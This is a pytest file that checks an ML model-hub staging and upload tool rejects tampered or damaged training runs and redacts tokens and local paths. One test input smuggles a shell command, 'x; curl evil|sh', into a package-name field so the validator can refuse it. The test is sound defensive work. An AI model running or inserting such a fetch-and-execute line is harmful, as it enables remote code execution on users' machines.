"""Runs that somebody edited or that are damaged: told in one line, before anything is sent."""

import json
import pickle
import shutil

import pytest
import yaml

from omniflow.assembly import build
from omniflow.draft import Draft
from omniflow.errors import CheckpointError
from omniflow.hub.card import CardFacts
from omniflow.hub.card_metadata import card_metadata
from omniflow.hub.push import push
from omniflow.hub.refusals import PushError
from omniflow.hub.staging import Inclusions, stage
from omniflow.recipe import dump_yaml
from omniflow.resolve import resolve

PART = {"kind": "head", "name": "linear", "distribution": "omniflow-zoo", "version": "0.1"}


@pytest.fixture(scope="module")
def model(registry):
    return build(head="linear", backbone="small", registry=registry)


@pytest.fixture
def run(model, registry, tmp_path):
    folder = tmp_path / "run"
    model.save_pretrained(folder / "best")
    parts = {"head": "linear", "backbone": "small", "dataset": "scenes"}
    recipe = resolve(Draft.from_mapping(parts), registry)
    (folder / "recipe.yaml").write_text(dump_yaml(recipe.to_dict()))
    return folder


def edit(path, **changes):
    content = json.loads(path.read_text()) | changes
    path.write_text(json.dumps({key: value for key, value in content.items() if value is not ...}))


def told(run, **options):
    with pytest.raises(CheckpointError) as caught:
        stage(run, **options)
    assert "\n" not in str(caught.value)
    return str(caught.value)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"head": "linear"}, "its head has no name"),
        ({"refiner": None}, "its refiner has no name"),
        ({"encoder": {}}, "its encoder has no name"),
        ({"components": {}}, "its components cannot be read"),
        ({"components": [{"kind": "head"}]}, "its components cannot be read"),
        ({"components": []}, "its components lack backbone"),
        ({"components": [PART | {"distribution": "x; curl evil|sh"}]}, "is no name and version of"),
        ({"components": [PART | {"version": "1\n```"}]}, "is no name and version of a package"),
        ({"trainable": ...}, "it lacks trainable"),
        ({"omniflow_version": ...}, "it lacks omniflow_version"),
        ({"weights_hash": ...}, "the weights are not those that config.json was written with"),
    ],
)
def test_a_configuration_that_was_edited_is_told(run, changes, expected):
    edit(run / "best/config.json", **changes)
    assert expected in told(run)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("training:", "trained:"),
        ("  lr: ", "  lr: fast #"),
        ("- name: scenes", "- called: scenes"),
        ("objective:\n  name:", "objective:\n  called:"),
    ],
)
def test_a_recipe_that_was_edited_is_told(run, old, new):
    path = run / "recipe.yaml"
    path.write_text(path.read_text().replace(old, new))
    assert f"{path}: is not a resolved recipe" in told(run)


def test_a_training_state_that_is_no_safetensors_is_told(run):
    shutil.copytree(run / "best", run / "latest")
    state = run / "latest/training_state"
    state.mkdir()
    (state / "state.json").write_text("{}")
    everything = Inclusions(training_state=True)
    assert "tensors.safetensors: there is no such file" in told(run, include=everything)
    (state / "tensors.safetensors").write_bytes(pickle.dumps({}))
    with pytest.raises(CheckpointError, match="not a whole file of tensors"):
        stage(run, include=everything)


def test_a_message_has_no_secret_and_no_place(uploads, run):
    messages = []

    def listen(handler, method, path, body):
        if "/commit/" in path:
            messages.append(json.loads(body.splitlines()[0])["value"]["summary"])
        return False

    uploads.hub.routes.insert(0, listen)
    push(run, "acme/mine", message="by hf_" + "a1B2" * 8 + f" of {run}")
    assert messages == ["by hf_*** of ./run"]


def test_files_that_are_no_text_are_told(run):
    (run / "report.html").write_bytes(b"\xff\xfe")
    assert "report.html: cannot be read as text" in told(run, include=Inclusions(report=True))
    (run / "best/README.md").write_bytes(b"\xff\xfe")
    assert "README.md: cannot be read as text" in told(run)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"model": 5}, "model is no text"),
        ({"dataset": {"name": "text"}}, "dataset is no text"),
        (
            {"metrics": {"bleu": {"value": float("nan"), "interval": None}}},
            "ValueError: bleu is nan",
        ),
    ],
)
def test_figures_that_no_card_can_show_are_told(run, changes, expected):
    whole = {"format": "omniflow.evaluation/1", "model": "run/best", "task": "t2t", "metrics": {}}
    (run / "eval_results.json").write_text(json.dumps(whole | changes))
    assert expected in told(run)


def test_a_recipe_beside_a_model_of_another_name_is_not_its_own(run):
    (run / "best").rename(run / "mine")
    (run / "recipe.yaml").write_text("head: vq")
    staged = stage(run / "mine")
    assert (staged.run, staged.recipe) == (run / "mine", None)


def test_samples_are_files_of_the_run_and_those_of_any_spelling_are_cleaned(run, tmp_path):
    samples = run / "samples"
    for path in (".hidden/a.json", "step-1/B.JSON", "c.PNG"):
        (samples / path).parent.mkdir(parents=True, exist_ok=True)
        (samples / path).write_text('{"path": "/home/somebody/x"}')
    (tmp_path / "private.json").write_text("{}")
    (samples / "link.json").symlink_to(tmp_path / "private.json")
    files = stage(run, include=Inclusions(samples=True)).files
    assert {path for path in files if path.startswith("samples/")} == {
        "samples/step-1/B.JSON", "samples/c.PNG",
    }  # fmt: skip
    assert json.loads(files["samples/step-1/B.JSON"]) == {"path": "./x"}


def test_the_folder_of_a_user_who_is_not_here_is_a_place_as_well(run):
    backbone = {"name": "small", "path": "~nobody-here/model"}
    edit(run / "best/config.json", backbone=backbone)
    assert stage(run).config["backbone"]["path"] == "./model"


def test_a_folder_said_from_elsewhere_is_no_model_of_the_hub(run):
    parts = {"backbone": {"name": "small", "path": "models/omniflow", "revision": None}}
    edit(run / "best/config.json", **parts, backbone_identity={"id": "models/omniflow"})
    recipe = yaml.safe_load((run / "recipe.yaml").read_text())
    recipe |= {**parts, "dataset": [{"name": "text", "path": "data/lines.txt"}]}
    (run / "recipe.yaml").write_text(yaml.safe_dump(recipe))
    staged = stage(run)
    assert staged.config["backbone"]["path"] == staged.recipe["backbone"]["path"] == "./omniflow"
    facts = CardFacts(staged.config, "acme/mine", recipe=staged.recipe)
    assert {"base_model", "datasets"}.isdisjoint(card_metadata(facts, {}))
    edit(
        run / "best/config.json", backbone_identity={"id": "models/omniflow", "revision": "1" * 40}
    )
    assert card_metadata(CardFacts(stage(run).config, "a/b"), {})["base_model"] == "models/omniflow"


def test_a_model_that_vanishes_while_it_is_pushed_is_told(uploads, run):
    def vanish(handler, method, path, body):
        if path == "/api/repos/create":
            shutil.rmtree(run / "best")
        return False

    uploads.hub.routes.insert(0, vanish)
    with pytest.raises(PushError, match=r"model.safetensors was replaced while it was sent"):
        push(run, "acme/mine")
